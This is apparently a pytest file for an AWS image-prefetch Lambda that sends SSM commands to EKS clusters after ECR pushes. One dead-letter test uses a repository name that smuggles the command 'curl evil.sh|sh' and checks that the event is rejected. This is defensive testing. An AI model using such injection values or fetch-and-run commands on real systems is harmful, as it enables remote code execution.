"""ImagePushFunction against the local stack (moto for EC2/SSM/SQS, DynamoDB Local)."""

from __future__ import annotations

import copy

import pytest

from devtools.local_stack.ec2_fleet import NodeSpec, launch
from tests.helpers import CallCounter, load_event, moto_commands

PUSH = load_event("ecr-push-tagged.json")
REGISTRY = "123456789012.dkr.ecr.us-east-1.amazonaws.com"
DIGEST = PUSH["detail"]["image-digest"]


def fleet(stack, total: int) -> dict[str, set[str]]:
    """`total` nodes: 40% in each target cluster (managed and Karpenter), 20% in another."""
    ec2 = stack.client("ec2")
    share = total * 2 // 5
    nodes: dict[str, set[str]] = {"ml-prod": set(), "ml-batch": set(), "web": set()}
    for cluster, count in (("ml-prod", share), ("ml-batch", share), ("web", total - 2 * share)):
        managed = count // 2
        nodes[cluster] |= set(launch(ec2, NodeSpec(cluster, "managed", "general"), managed))
        nodes[cluster] |= set(launch(ec2, NodeSpec(cluster, "karpenter", "default"), count - managed))
    return nodes


def push(stack, event=None):
    return stack.functions["ImagePushFunction"].invoke(copy.deepcopy(event or PUSH))


@pytest.mark.parametrize("total", [10, pytest.param(1000, marks=pytest.mark.slow)])
def test_one_push_sends_one_pinned_command_per_cluster_whatever_the_fleet_size(stack, total):
    # Given a fleet of `total` nodes in the two target clusters and one other cluster
    nodes = fleet(stack, total)
    # When an image is pushed
    with CallCounter() as counter:
        result = push(stack)
    # Then exactly one SendCommand per target cluster, pinned to the pushed digest
    assert result["action"] == "sent"
    assert counter.count("ssm.SendCommand") == 2
    sent = {p["Targets"][0]["Key"]: p for p in counter.params["ssm.SendCommand"]}
    assert set(sent) == {"tag:kubernetes.io/cluster/ml-prod", "tag:kubernetes.io/cluster/ml-batch"}
    for params in sent.values():
        assert params["Parameters"]["Images"] == [f"{REGISTRY}/ml/trainer:v1.4.0@{DIGEST}"]
        assert params["DocumentName"] == stack.output("PrefetchDocument")
        assert params["MaxConcurrency"] == "10%" and params["MaxErrors"] == "10%"
    # And SSM's tag targets reach every node of each target cluster, and no other
    reached = {c.targets[0]["Key"].rsplit("/", 1)[1]: set(c.instance_ids) for c in moto_commands()}
    assert reached == {"ml-prod": nodes["ml-prod"], "ml-batch": nodes["ml-batch"]}
    # And the number of AWS calls does not depend on the number of nodes
    assert dict(counter.calls) == EXPECTED_CALLS


# Per push to two clusters: the event's idempotency record (a put, then an update), the catalog
# (the tag and the image, then per cluster its current image and its entry in the cluster list),
# and per cluster the send's claim, one SendCommand, the claim's completion and the command
# record. Nothing lists or describes nodes.
EXPECTED_CALLS = {
    "dynamodb.PutItem": 1 + 2 + 2 + 2,
    "dynamodb.UpdateItem": 1 + 2 + 2 + 2,
    "ssm.SendCommand": 2,
}


def test_a_replayed_event_sends_nothing_again(stack):
    fleet(stack, 4)
    first = push(stack)
    with CallCounter() as counter:
        again = push(stack)
    assert again == first
    assert counter.count("ssm.SendCommand") == 0
    assert len(moto_commands()) == 2


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("ecr-push-untagged-child.json", "no tag"),
        ("ecr-delete.json", "action-type is DELETE"),
    ],
)
def test_events_that_are_not_ours_send_nothing(stack, name, reason):
    result = push(stack, load_event(name))
    assert result["action"] == "ignored" and reason in result["reason"]
    assert moto_commands() == []


def test_a_repository_outside_the_patterns_is_ignored(servers, aws_env, function_log):
    from devtools.local_stack.stack import LocalStack

    servers.reset_moto()
    stack = LocalStack(
        servers,
        name="tpatterns",
        overrides={"TargetClusters": "ml-prod", "RepositoryPatterns": "web/*"},
        log=function_log,
    ).deploy()
    result = push(stack)
    assert result["action"] == "ignored" and "RepositoryPatterns web/*" in result["reason"]
    assert moto_commands() == []


def test_a_malformed_event_lands_in_the_dead_letter_queue_with_its_reason(stack):
    bad = copy.deepcopy(PUSH)
    bad["detail"]["repository-name"] = "ml/trainer;curl evil.sh|sh"
    result = push(stack, bad)
    assert result["action"] == "rejected"
    messages = stack.client("sqs").receive_message(
        QueueUrl=stack.queues["ImagePushDLQ"], MessageAttributeNames=["All"]
    )["Messages"]
    assert len(messages) == 1
    assert "repository-name" in messages[0]["MessageAttributes"]["ErrorMessage"]["StringValue"]
    assert "curl evil.sh" in messages[0]["Body"]
    assert moto_commands() == []


def test_a_moved_tag_supersedes_the_old_digest_and_a_late_older_push_sends_nothing(stack):
    from prefetcher.store import AuditTable

    table = AuditTable(stack.output("AuditTable"))
    newer = copy.deepcopy(PUSH)
    newer["id"] = "7b1f0e0a-1111-4222-8333-944455556666"
    newer["time"] = "2026-11-29T11:00:00Z"
    newer["detail"]["image-digest"] = "sha256:" + "e" * 64
    # Given the newer push arrives first
    assert push(stack, newer)["action"] == "sent"
    # When the older one arrives after it (EventBridge does not order events)
    late = push(stack)
    # Then the older digest is recorded as superseded and not sent to any node
    assert late["action"] == "superseded"
    assert table.queries.current_tag("ml/trainer", "v1.4.0").digest == "sha256:" + "e" * 64
    meta, _ = table.queries.image("ml/trainer", DIGEST)
    assert meta.superseded_by == "sha256:" + "e" * 64
    assert len(moto_commands()) == 2


def test_a_tag_moving_forward_marks_the_previous_digest_superseded(stack):
    from prefetcher.store import AuditTable

    # Given a push of the tag
    table = AuditTable(stack.output("AuditTable"))
    push(stack)
    newer = copy.deepcopy(PUSH)
    newer["id"] = "7b1f0e0a-1111-4222-8333-944455556667"
    newer["time"] = "2026-11-29T12:00:00Z"
    newer["detail"]["image-digest"] = "sha256:" + "f" * 64
    # When a later push moves the tag to a new digest
    push(stack, newer)
    # Then the previous digest is superseded and the cluster's current image is the new one
    meta, _ = table.queries.image("ml/trainer", DIGEST)
    assert meta.superseded_by == "sha256:" + "f" * 64
    images, _ = table.queries.cluster("ml-prod")
    assert [i.digest for i in images] == ["sha256:" + "f" * 64]
